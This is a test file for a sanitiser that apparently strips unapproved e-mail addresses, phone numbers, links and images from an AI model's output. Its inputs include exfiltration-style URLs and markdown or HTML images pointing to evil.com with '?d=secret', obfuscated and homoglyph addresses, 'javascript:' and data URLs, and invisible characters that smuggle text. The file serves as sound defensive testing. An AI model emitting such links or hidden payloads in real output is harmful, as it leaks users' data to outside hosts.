import { describe, expect, test } from 'vitest'
import { REMOVED_MARK, sanitiseOutput } from '../../src/kit/model-output.ts'

const NOTHING = { emails: [], phones: [], urls: [] }
const MARIA = {
  emails: ['maria@example.com'],
  phones: ['+49 170 1234567'],
  urls: ['https://example.com/deck?v=2', 'solar.example.org'],
}

describe('sanitiseOutput keeps', () => {
  test.each([
    'Hi Femi, Maria asked whether you would talk for 20 minutes on 2026-10-05 10:00, or on 05.10.2026.',
    'They raised $1.250.000 in 2019-2021, serve 2 500 000 people, and use Node.js 26.10.0.',
    'Request R-142 is from the M.Sc. group, e.g. the one in the U.S. There.It is short. See and/or ask.',
    'Marie-Thérèse, José and 山田さん would like to meet. 他住在北京。中国很大。',
    'Ask @jean.luc at noon, or meet at the polka dot bar at 5.',
    'Wörter, слова, كلمات, मिलना: 12 345 and 50 % of 1 000 000.',
    '**Bold**, _soft_, `code`, > a quote, and a list:\n- one\n- two',
    'می‌خواهم 👩‍👩‍👧 ❤️',
  ])('words as they are: %s', (text) => {
    expect(sanitiseOutput(text, NOTHING)).toEqual({ text, removed: [] })
  })

  test.each([
    'Write to maria@example.com or Maria@Example.com.',
    'Call +49 170 1234567, 0170 1234567, 0049 170 1234567 or +49 (0)170 1234567.',
    'The deck: https://example.com/deck?v=2, their site: https://www.solar.example.org/ (or solar.example.org).',
    'See [the deck](https://example.com/deck?v=2) and [write](mailto:maria@example.com) or [call](tel:+491701234567).',
    '詳しくはsolar.example.orgを見てください。資料はhttps://example.com/deck?v=2です。',
  ])('what the inputs allow: %s', (text) => {
    expect(sanitiseOutput(text, MARIA)).toEqual({ text, removed: [] })
  })

  test('an allowed address written in other characters, as it is written in ours', () => {
    expect(sanitiseOutput('maria＠exam\u200dple．com', MARIA).text).toBe('maria@example.com')
  })
})

describe('sanitiseOutput removes an e-mail address', () => {
  test.each([
    'eve@evil.com',
    'eve＠evil．com',
    'eve@evil。com',
    'e\u200bve@ev\u2060il.com',
    'eve\u{E0041}@evil.com',
    'eve @ evil.com',
    'eve (at) evil (dot) com',
    'eve[at]evil[.]com',
    'eve at evil dot com',
    'eve arroba evil punto com',
    'ева@почта.рф',
    '用户@例子.中国',
    'eve**@**evil.com',
    'eve\\@evil\\.com',
    'maria@example.com.evil.com',
    'mariа@example.com', // a Cyrillic а
    'xmaria@example.com',
    '<eve@evil.com>',
    'mailto:eve@evil.com',
    'mailto:maria@example.com?bcc=eve@evil.com',
  ])('%s', (address) => {
    const { text, removed } = sanitiseOutput(`Write to ${address} today.`, MARIA)
    expect(text).toMatch(/^Write to <?\[…\](?:com)?>? today\.$/)
    expect(removed).toHaveLength(1)
  })
})

describe('sanitiseOutput removes a phone number', () => {
  test.each([
    '+1 (555) 010-9999',
    '555.010.9999',
    '06.12.10.34.56',
    '+٤٩ ١٧٠ ٩٩٩٩٩٩٩',
    '०१७० ९९९९९९९',
    '０１７０９９９９９９９',
    '𝟎𝟏𝟕𝟎𝟗𝟗𝟗𝟗𝟗𝟗𝟗',
    '0️⃣1️⃣7️⃣0️⃣9️⃣9️⃣9️⃣9️⃣9️⃣9️⃣9️⃣',
    '01\u200b70\u200b999\u200b9999',
    '0170–999–9999',
    '**0170** 9999999',
    '4111 1111 1111 1111',
    'tel:+15550109999',
  ])('%s', (number) => {
    const { text, removed } = sanitiseOutput(`Call ${number} now`, MARIA)
    expect(text.replaceAll('*', '')).toBe(`Call ${REMOVED_MARK} now`)
    expect(removed).toHaveLength(1)
  })
})

describe('sanitiseOutput removes a link', () => {
  test.each([
    'https://evil.com/?d=secret',
    'HTTPS://EVIL.COM',
    'https:/evil.com',
    'https:\\\\evil.com',
    'hxxps://evil.com/x',
    'ftp://evil.com',
    'slack://open?team=T1',
    'javascript:alert(1)',
    'data:text/html;base64,PHNjcmlwdD4=',
    'evil.com',
    'EVIL.IO',
    'secret.Evil.Io',
    'evil.zz/secret',
    'www.evil.zz',
    'discord.gg/abc123',
    'bit.ly/3abc',
    '10.0.0.1/secret',
    'http://[::1]/x',
    'https://example.com@evil.com/',
    'https://example.com.evil.com/deck?v=2',
    'https://example.com/deck?v=2&d=secret',
    'https://example.com/deck?v=3',
    'https://еxample.com/deck?v=2', // a Cyrillic е
    'https://xn--xample-2of.com/',
    'ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ',
    'ev\u200bil.com',
    'evil[.]com',
    'evil。com/x',
    'пример.рф',
    '例子.中国',
    'موقع.شبكة',
  ])('%s', (url) => {
    const { text, removed } = sanitiseOutput(`See ${url} now`, MARIA)
    expect(text).toBe(`See ${REMOVED_MARK} now`)
    expect(removed.map(({ kind }) => kind)).toEqual(['url'])
  })

  test.each([
    ['[the plan](https://evil.com/?d=secret)', 'the plan'],
    ['[the plan](/relative?d=secret)', 'the plan'],
    ['[the plan](https://evil.com/a_(b)?d=1 "title")', 'the plan'],
    ['[https://bank.example](https://example.com/deck?v=2)', `[${REMOVED_MARK}](https://example.com/deck?v=2)`],
    ['<https://evil.com/?d=1|the plan>', `<${REMOVED_MARK}|the plan>`],
    ['<https://evil.com>', `<${REMOVED_MARK}>`],
    ['[the plan][1]\n\n[1]: https://evil.com', `[the plan][1]\n\n[1]: ${REMOVED_MARK}`],
    ['[a [b] c](https://evil.com)', `[a [b] c](${REMOVED_MARK})`],
    ['<a href="https://evil.com">the plan</a>', 'the plan'],
    ['詳しくはevil.comを', `詳しくは${REMOVED_MARK}を`],
  ])('in markup: %s', (text, expected) => {
    expect(sanitiseOutput(text, MARIA).text).toBe(expected)
  })
})

test.each([
  ['![a chart](https://evil.com/?d=secret)', 'a chart'],
  ['![a chart](https://example.com/deck?v=2)', 'a chart'],
  ['![a chart][1]', 'a chart'],
  ['[![a chart](https://evil.com/p.png)](https://evil.com)', 'a chart'],
  ['<img src="https://evil.com/?d=secret">', ''],
  ['<img/src=//evil.com/x', ''],
  ['!<b></b>[a chart](https://example.com/deck?v=2)', 'a chart'],
])('sanitiseOutput removes every image: %s', (text, expected) => {
  expect(sanitiseOutput(text, MARIA).text).toBe(expected)
})

test('sanitiseOutput removes hidden characters that carry text', () => {
  const hidden = [...'secret'].map((char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0))).join('')
  expect(sanitiseOutput(`Hello${hidden} \u202eolleh`, NOTHING).text).toBe('Hello olleh')
})

test('sanitiseOutput is sane when run on its own output', () => {
  const once = sanitiseOutput('eve@evil.com, +1 555 010 9999, https://evil.com, ![x](y)', NOTHING).text
  expect(sanitiseOutput(once, NOTHING)).toEqual({ text: once, removed: [] })
})

test.each(['[', '![', '(', 'a.', 'a@', '1 ', '<a ', 'http://', '[at]', 'x at y dot ', '。', 'é\u0301', '۹ '])(
  // Work that grew with the square of the text would outlast the test.
  'sanitiseOutput gets to the end of a wall of %j',
  (unit) => {
    expect(sanitiseOutput(unit.repeat(400_000 / unit.length), NOTHING).text.length).toBeLessThanOrEqual(400_000)
  },
)
